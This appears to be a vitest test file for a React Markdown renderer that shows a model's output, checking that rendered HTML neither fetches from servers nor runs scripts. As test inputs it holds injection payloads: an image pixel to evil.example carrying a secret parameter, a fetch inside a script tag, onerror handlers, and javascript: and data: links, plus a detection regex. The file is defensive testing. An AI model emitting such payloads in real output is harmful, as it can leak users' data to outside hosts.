import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import MarkdownContent, { PlainWords } from "./markdown-content.tsx";

const render = (text: string) => renderToStaticMarkup(<MarkdownContent text={text} />);

/** Everything that would make a browser ask a server without a click, or run something. */
const reachesOut =
  /<(img|script|iframe|link|style|object|embed|video|audio|svg [^>]*onload|base|form)\b|\son[a-z]+=|="\s*(javascript|data):|srcset|<a[^>]+ping=/i;

describe("markdown of a model", () => {
  it.each([
    ["an image", "![x](https://evil.example/pixel.png?secret=1)"],
    ["an image by reference", "![x][1]\n\n[1]: https://evil.example/pixel.png"],
    ["an HTML image", '<img src="https://evil.example/pixel.png" onerror="alert(1)">'],
    ["a script", "<script>fetch('https://evil.example')</script>"],
    ["a frame", '<iframe src="https://evil.example"></iframe>'],
    [
      "a style sheet",
      '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example)</style>',
    ],
    [
      "a javascript link",
      "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](\u0001javascript:alert(1))",
    ],
    ["a data link", "[click](data:text/html,<script>alert(1)</script>)"],
    ["an auto link", "<javascript:alert(1)>"],
    ["an image in a table", "| a |\n|---|\n| ![x](https://evil.example/p.png) |"],
  ])("S47 makes no request and runs nothing for %s", (_name, text) => {
    expect(render(text)).not.toMatch(reachesOut);
  });

  it("S47 offers an image as a link that says where it leads", () => {
    const html = render("![a chart](https://pictures.example/chart.png)");
    expect(html).toContain("a chart");
    expect(html).toContain("pictures.example");
    expect(html).toMatch(
      /<a href="https:\/\/pictures\.example\/chart\.png" target="_blank" rel="noopener noreferrer nofollow"/,
    );
  });

  it("keeps web and mail links, with rel and a page of their own, and no other address", () => {
    const html = render("[a](https://a.example) [b](mailto:b@b.example) [c](ftp://c.example) [d](//d.example) [e](/e)");
    expect(html.match(/<a /g)).toHaveLength(2);
    expect(html.match(/target="_blank" rel="noopener noreferrer nofollow"/g)).toHaveLength(2);
  });

  it("shows lists, code and tables", () => {
    expect(render("- one\n- two")).toMatch(/<ul dir="auto">[\s\S]*<li>one<\/li>/);
    expect(render("```js\nlet a = '<b>';\n```")).toContain("let a = &#x27;&lt;b&gt;&#x27;;");
    expect(render("| a | b |\n|---|---|\n| 1 | 2 |")).toContain("<td>1</td>");
  });

  it("lists in the direction of what a list holds", () => {
    expect(render("- عنصر")).toContain('<ul dir="auto">');
    expect(render("3. three")).toContain('<ol dir="auto" start="3">');
  });
});

describe("the words of Markdown", () => {
  const words = (text: string) => renderToStaticMarkup(<PlainWords text={text} />);

  it("are plain text: no marks, no elements", () => {
    expect(words("## Sizes\n\n- **Small**: 10 `cm`\n- [Large](https://a.example)\n\n> *Soon*")).toMatch(
      /^Sizes\s+Small: 10 cm\s+Large\s+Soon\s*$/,
    );
    expect(words("| a | b |\n|---|---|\n| 1 | 2 |")).toMatch(/^\s*a\s+b\s+1\s+2\s*$/);
    expect(words("<script>x</script>![pixel](https://evil.example/p.png)")).not.toMatch(/</);
  });
});
